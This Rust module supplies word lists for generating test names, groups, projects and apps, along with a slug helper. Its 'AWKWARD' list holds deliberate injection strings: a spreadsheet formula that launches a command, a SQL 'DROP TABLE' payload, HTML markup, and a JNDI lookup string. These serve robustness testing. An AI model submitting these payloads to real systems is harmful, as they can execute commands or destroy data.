//! The words that names are made of.

pub(crate) const GIVEN: &[&str] = &[
    "Ada", "Zoë", "Łukasz", "José", "Ngọc", "Søren", "Анна", "美咲", "Priya", "Chidi", "Liam",
    "Noor", "Björk", "Ines", "Mateo", "Çağla", "Olu", "Siobhán", "Yusuf", "Hana", "Grace", "Tomáš",
    "Farah", "Ravi",
];

pub(crate) const FAMILY: &[&str] = &[
    "O'Brien",
    "Müller-Lüdenscheidt",
    "Nguyễn",
    "de la Cruz",
    "Kowalska",
    "Петрова",
    "佐藤",
    "Okafor",
    "Smith",
    "Ødegård",
    "Haddad",
    "Rao",
    "Lindqvist",
    "Özdemir",
    "Fernandes",
    "MacLeod",
    "Dvořák",
    "Ito",
    "Adeyemi",
    "Novák",
    "Brown",
    "D'Angelo",
    "Van den Berg",
    "Castillo",
];

/// Display names that break careless writers of CSV, HTML, SQL and spreadsheets.
pub(crate) const AWKWARD: &[&str] = &[
    "Smith, Jr., John",
    "Robert \"Bobby\" Tables",
    "=cmd|' /C calc'!A0",
    "+1 (555) 0100",
    "-Dash, Dot-",
    "@all",
    "<b>Bold</b> & Sons",
    "'); DROP TABLE users;--",
    " Leading Space",
    "Zero\u{200d}Width 👩\u{200d}💻",
    "${jndi:ldap://example.invalid/a}",
    "Right \u{202e}tfel",
];

pub(crate) const APPS: &[&str] = &[
    "Deploy Bot",
    "Pipelines, shared",
    "Renovate",
    "=Sync",
    "Code Insights",
];

pub(crate) const GROUPS: &[&str] = &[
    "Developers",
    "Contractors",
    "Designers, UX & \"brand\"",
    "Équipe Sécurité",
    "Release Managers",
    "@on-call",
    "Data Science",
    "QA",
    "Читатели",
    "Finance Read-Only",
    "Site Reliability",
    "Auditors",
    "External: Agency #7",
    "Mobile",
];

pub(crate) const PROJECTS: &[(&str, &str)] = &[
    ("WEB", "Website"),
    ("API", "Public API"),
    ("OPS", "Operations & Infrastructure"),
    ("PAY", "Payments, EU"),
    ("DATA", "Datenplattform für Alle"),
    ("MOB", "Mobile \"Next\""),
    ("SEC", "Security"),
    ("LEGACY", "-= Legacy =-"),
    ("ML", "機械学習"),
    ("DOCS", "Docs"),
];

pub(crate) const THINGS: &[&str] = &[
    "Billing",
    "Search",
    "Checkout",
    "Inventory",
    "Ledger",
    "Gateway",
    "Login",
    "Mailer",
    "Scheduler",
    "Catalogue",
    "Reports",
    "Metrics",
    "Frontend",
    "Terraform",
    "Étagère",
    "Warehouse",
];

pub(crate) const SORTS: &[&str] = &[
    "Service",
    "Library",
    "Worker",
    "UI",
    "Tools",
    "Config",
    "v2.0",
    "Client_SDK",
];

pub(crate) const LANGUAGES: &[&str] = &["", "go", "rust", "python", "java", "typescript", "c++"];

/// The characters of `name` that a slug may hold; `fallback` where that leaves nothing.
pub(crate) fn slug(name: &str, fallback: &str) -> String {
    let mut slug = String::new();
    for c in name.to_lowercase().chars() {
        match c {
            'a'..='z' | '0'..='9' | '.' | '_' => slug.push(c),
            _ if !slug.is_empty() && !slug.ends_with('-') => slug.push('-'),
            _ => {}
        }
    }
    let slug = slug.trim_matches(['-', '.']);
    if slug.is_empty() {
        fallback.to_owned()
    } else {
        slug.to_owned()
    }
}
